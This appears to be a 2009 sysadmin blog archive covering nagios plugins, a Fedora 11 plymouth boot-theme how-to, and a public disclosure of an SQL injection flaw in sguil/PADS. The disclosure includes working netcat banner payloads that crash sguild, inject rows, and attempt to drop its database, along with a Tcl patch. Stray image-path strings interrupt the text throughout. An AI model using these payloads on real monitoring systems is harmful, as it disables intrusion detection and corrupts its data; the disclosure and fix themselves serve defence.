Archive for July, 2009

Helping to fix Wall Street

This combines two of my favorite things!! Ok, maybe not FAVORITE persay, but recently, I’ve been writing a lot of nagios plugins. And recently, I’ve been hearing a lot about how the economy has been doing rather poorly. It’s as if the people running the economy need something to monitor it and make sure it’s doing okay.

And thus it was born: [the nagios check_economy plugin].

Right now it just monitors the Dow Jones Industrial Average and reports back on a range that you provide to it. My range at the current moment is warning if <=9000, critical if <=8500. The script will break if the people I'm mooching the stock data from redesign their website. Actually, you could probably even modify this script such that it checks other stock symbols besides DJI. The possibilities are endless! Dependencies include the curl package, an internet connection, and some time to waste. @mstarr, you may wish to file this one under humor.

For the impatient: [Download check_categorized_updates now]

I’ve been writing a lot of nagios plugins lately, and here’s the newest of the group. After googling around, I wasn’t able to find any nagios plugins that would support checking if, in the list of available packages, there were any that fell under the category of “security updates”. You know, like how PackageKit organizes the security updates.

I alsodecided to take the script one step further. You can specify required packages with the “-r” flag, and if they are found in the possible updates list, even for a feature enhancement, the plugin will report the system as “critical”. Otherwise, it reports as Warning.

Please do note in using this plugin that I parse out the metadata that yum prints by seeing if the output is greater than three lines. This will most definitely change from place to place. Also, this utility requires yum to be installed and it’s been designed on a RHEL/Fedora system. Updating it to use apt-get or the sun updating mechanism shouldn’t be terribly difficult, though, just a matter of changing the grep patterns.

So if the packages “kernel.x86_64” and “libtiff_x86_64” are available to be updates, and libtiff is a security update, here’s what the various combinations of options will return:

# ./check_updates => Warning
# ./check_updates -s => Critical

# yum update libtiff

# ./check_updates => Warning
# ./check_updates -s => Warning
# ./check_updates -r kernel.x86_64 => Critical
# ./check_updates -s -r kernel.x86_64 => Critical

# yum update kernel

# ./check_updates => Ok
# ./check_updates -s => Ok
# ./check_updates -r kernel.x86_64 => Ok
# ./check_updates -s -r kernel.x86_64 => Ok

Properly configuring plymouthMayhaps this should be better called “getting rid of the blue and white bar loading screen in Fedora 11”, because that was the goal I had in mind when I set out on this mission. I’d like to officiallysay that [this guy] is just totally incorrect. He reviews Fedora 11 booting as, and I quote here,

“First, the loading screen is a simple blue loading bar. Second, the boot process is extremely quick. Does the first have anything to do with the second? It sure does. The Fedora 11 development team has decided to go with speed instead of looks during the boot process and I think Fedora 11 users will be thrilled with this small change to speed up the LiveCD boot time.”

HE’S CORRECT, I’M SO THRILLED!!! One main reason I find this funny — he assumes he knows exactly what the Fedora development team had in mind when designing this blue bar loading screen, yet he’s not a developer on the team. Nor is he correct. Nor did he even read the release notes or improvements list. Nope, not a single piece of knowledge, data, or documentation to back up this claim.

The truth? The dev team did work very hard on the boot process, and the fruit of their labors is the plymouth codebase. The blue/light-blue/white loading bar? Yeah, that’s actually a fallback when the graphical plymouth booting mechanism fails. Great job doing yourhomework! So we’ve established two things here, that there’s at least one page on the internet with incorrect information, and that, if you are experiencing the fedora 11 blue bar boot (say THAT one three times fast), you can actually attain a prettier boot process.

This how-to is written both from memory, and specifically for my laptop, which I was attempting to spruce up with a nice graphical boot. If it’s inaccurate, sorry about that, but you can certainly use the base I’m giving you here as a launching point for further research.

First, my laptop has an NVidia GPU in it, so it was necessary to download the proprietary NVidia drivers and install them. I did not install the 32-bit compatibility libraries, since if I do, the NVidia installer says something to the effect of, “Could not check random component #9662, assuming successful installation”. Well NVidia, you know what happens when you assume things… Anyway, once you’ve gotten the nvidia kernel module installed, edit /etc/modprobe.d/blacklist.conf and blacklist the modules “nv” and “nouveau” to prevent them from being loaded. We only want the proprietary driver to be loaded here. Make sure you update /etc/X11/xorg.conf as well and tell it to use the nvidia module.

Next, we need to make the framebuffer have the optimal settings, that way plymouth won’t dieand fall back to the blue bar loading screen. Append to the end of the kernel line in /boot/grub/grub.conf the text “vga=ask” and reboot. The kernel will prompt you for a video mode. I recommend typing “scan” here and striking return abruptly, as we want to make sure all available modes are listed. And yes, the abrupt manner with which the enter key is pressed is important. So yeah, pick which mode fits your screen the best, for me it was 1920x1200x32, which had a hex code of like 37D or something. Like I said, this is all from memory. Now, write down this hex code somewhere, because you’ll need it again shortly. After the machine boots, find a calculator and convert the hex code you just entered into the kernel into decimal, then place the decimal value in the /boot/grub/grub.conf file, replacing the “ask” with your number. Mine resolved to decimal “893”, so I ended up with “vga=893” on the kernel line. Congrats, you have now made a hospitable environment with which plymouth can bedazzle you.

Okay, now it’s time to configure the workhorse. We’ll need the appropriate utilities, so run this:

# yum install plymouth plymouth-gdm-hooks plymouth-libsplymouth-plugin-label plymouth-plugin-two-step plymouth-scripts plymouth-system-theme plymouth-theme-charge plymouth-utils

Honestly, most of these were probably already installed, but it never hurts to make absolutely sure. Now, recall before where we compiled the NVidia driver? We’ll need that to be loaded during the boot process so that plymouth can come up. This means that we’ll need a new initrd containing the NVidia module. This is also the purpose of blacklisting the nv and nouveau modules, as they now won’t get included into the initrd. I’ve become Canadian lazy lately, so you can run this command to see how to build a new initrd:

# rpm -aq –scripts kernel | grep initrd

A list of 2 or 4 commands will show up from that. Now find the appropriate one and run it. For me, that was:

# /sbin/new-kernel-pkg –package kernel –mkinitrd –depmod –install

Voila, one new shiny initrd. But the initrd isn’t quite done yet. We need to update plymouth’s hooks into it. First, we’ll want to select a theme for initrd to use. I’ve made sure, at the very least, you’ve installed the “charge” theme in the yum command above. There’s plenty more in the repos, feel free to search for more, install them, and play around. Some are very neat. Anyway, to see which themes are available, do something like this:

# ls -1 /usr/share/plymouth/themes/

As you can see, I have a couple of themes installed, but let’s focus on the charge theme. Set it as the default theme, and then update it’s initrd hooks by running, in order:

# plymouth-set-default-theme charge
# /usr/libexec/plymouth/plymouth-update-initrd

Note: This entire abovesaid process needs to be redone for each NVidia driver or kernel update, otherwise it’ll be broken and fall back to the blue bars again.

Now, reboot and enjoy the pretty loading screen. Now there’s only one issue you’ll need to figure out from here on out that I can’t seem to work out, and that’s when to reboot in order to enjoy the loading screen anyway. I mean, if you followed this tutorial, you’re clearly running Linux, which means you’ll probably not need to reboot any time soon. Effectively, you may have just wasted a good 15 minutes setting up a boot screen you’ll never really enjoy too much. Thanks for reading my blog, though, I do appreciate it. I promise next time I’ll include a spoiler warning at the top of the article. Have a nice day!

DISCLAIMER: I have nothing but respect for the sguil, snort, PADS, and other associated development teams. Because of their efforts, I have the tools that I need available to me at no direct cost. They are truly wonderful people, and in speaking with them, I have found that they are also extremely professional and courteous. I am only making this bug report public because I filed it more than a month ago in private, and no action has since been taken, no patches released, nor any mention made of it. It is a truly very serious bug, and should it turn up in the wrong hands, couldlead to a braindead network monitoring system.

I happened to be monitoring a sguil daemon on a box appropriately named snort-mgmt in full debug mode. Sguild randomly died from time to time, maybe once a week. It was very rare and sparse. I happened to catch the problem while running it, and found the culprit of the problem.Someone on our network had started a new httpd server, and PADS had picked up on it. The banner included “: The world’s best http server.”. Sguild died on a mysql error, and printed the exact error from mysql, saying there was a syntax error. It seemed that nowhere along the way was pads, pads_agent, or sguild sanitizing the SQL input.

Knowing this, I started a few tests. I ran on one of the sensor boxes:

echo “SSH-2.0-OpenSSH_1.4′,’deadbeefcafe’);drop^Mdatabase^Msguildb;–” | nc -l 1050

and then telnet’d to it from my desktop. PADS picked up the banner packet, and passed it along exactly as it was sent. It has a 100% success rate on taking down sguild, though the above example of dropping the central database did not work, as PADS seems to parse out the whitespace. Perhaps someone more clever than myself could get the database drop to work. The injection of the deadbeefcafe did work, however, which is even worse than just taking down the management server. Iran a mysql query and found an event with hex_value ‘deadbeefcafe’, so I can confirm the injection works.

This in mind, I attempted to write a small fix to patch the problem. I was originally going to sanitize the output straight out of PADS, but PADS seems to use libpcap for that functionality, and I’d rather not go down to that level to solve a product-specific issue. So I went to the next step, the pads_agent. In pads_agent.tcl, I changed the function “GetFifoData { fifoID}” to read as such:

# PADS writes out a field per line ended with a “.” on its own.
if { $data != “.” } {

if { $DEBUG } { puts “New line from FIFO: $data” }
set data [string map {‘ \\’} $data]
lappend dataList $data

} else {

if { $DEBUG } { puts “ProcessData: $dataList” }
ProcessPadsData $dataList
set dataList “”


The difference being the set data string map line. I had to learn a bit of tcl to implement this. It’s not the best or most elegant fix in the world, the right way to fix this bug is to parameterize all of the MySQL calls. Upon testing the exact same command designed tobreak the system above, but netcatting on a different port so PADS picks it up properly again, the change worked. sguild didn’t die, and the information got put into the database successfully.

So here’s the final exploit, for those impatient people.

TO BRING THE SERVER DOWN (ungraceful, somewhat noticeable crash):

Run this command on a server being monitored by PADS/sguil:

echo “SSH-2.0-OpenSSH_1.4′,’deadbeefcafe’);–” | nc -l 7777

…and then telnet to port 7777 from a different box.


Run this command on a server being monitored by PADS/sguil:echo “SSH-2.0-OpenSSH_1.4′,’deadbeefcafe’)–” | nc -l 8888

…and then telnet to port 8888 from a different box.

End result and proof of concept:

mysql> use sguildb;
Reading table information for completion of table and column names
You can turn off this feature to get a quicker startup with -A

Database changed
mysql> select * from pads where `hex_payload`=’deadbeefcafe’;
| hostname | sid | asset_id | timestamp | ip | service | port | ip_proto | application |hex_payload |
| sensor1test2 | 1 | 7 | 2009-06-08 14:28:02 | 2886732921 | ssh | 1061 | 6 | OpenSSH 1.4 | deadbeefcafe |
1 row in set (0.01 sec)

